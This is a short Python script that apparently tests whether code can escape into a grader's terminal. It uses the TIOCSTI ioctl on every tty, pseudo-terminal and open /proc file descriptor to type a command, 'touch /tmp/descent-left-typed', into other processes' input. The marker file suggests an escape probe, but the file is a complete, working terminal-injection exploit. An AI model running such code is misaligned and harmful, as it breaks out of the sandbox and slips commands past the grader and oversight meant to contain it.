"""Terminal: commands are typed into the grader's terminal

TIOCSTI on every descriptor, the controlling terminal and every pseudo-terminal.
"""
import fcntl
import glob
import os

for path in ("/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/*")):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        for letter in b"touch /tmp/descent-left-typed\n": fcntl.ioctl(terminal, 0x5412, bytes([letter]))
    except OSError: pass
